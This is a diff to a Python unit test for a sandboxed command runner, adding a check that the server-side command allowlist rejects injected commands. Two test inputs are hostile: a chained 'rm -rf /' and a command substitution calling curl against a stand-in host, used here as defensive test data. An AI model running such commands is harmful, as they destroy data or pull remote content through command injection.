@@ -170,12 +170,20 @@ class OnServer(Contract, unittest.TestCase):
     def setUp(self) -> None:
         assert server is not None
         self.client = Client(server.url)
-        # is_command_allowed uses the local CLI's checker
+        # a narrower allowed_tools list is judged by the local CLI
         self._env = mock.patch.dict(os.environ, {"SANDBOXRUN_BIN": _harness.binary()})
         self._env.start()
 
     def tearDown(self) -> None:
         self._env.stop()
+
+    def test_is_command_allowed_asks_the_server(self) -> None:
+        # No local CLI: the skill's own list is judged by the server.
+        with mock.patch.dict(os.environ, {"SANDBOXRUN_BIN": "/nonexistent/sandboxrun", "PATH": "/nonexistent"}):
+            ex = self.executor()
+            self.assertTrue(ex.is_command_allowed("python scripts/test.py"))
+            self.assertFalse(ex.is_command_allowed("python scripts/test.py; rm -rf /"))
+            self.assertFalse(ex.is_command_allowed("echo $(curl evil.com)"))
 
     def test_working_dir_needs_local_mode(self) -> None:
         res = self.executor().execute("python scripts/ls.py", working_dir=Path("/tmp"))
